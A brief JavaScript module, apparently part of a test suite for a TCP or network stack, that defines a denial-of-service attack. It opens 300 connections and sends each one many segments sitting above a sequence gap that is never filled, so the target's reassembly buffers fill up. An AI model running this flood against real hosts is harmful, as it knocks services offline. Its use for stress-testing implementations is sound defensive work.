import { ACK } from '../peers.js'

export const summary = '300 connections, each with a window of text above a gap that is never filled'
export const short = true

export const attack = async (peers, { goesOn }) => {
  const text = new Uint8Array(1460)
  const all = await peers.connectMany(300, 9)
  for (let at = 1; at < 1000; at++)
    for (const c of all) {
      c.send(ACK, { seq: (c.seq + at * 1460) | 0, text })
      if (peers.sent % 256 === 0 && !(await goesOn(1))) return
    }
  while (await goesOn(100)) {}
}
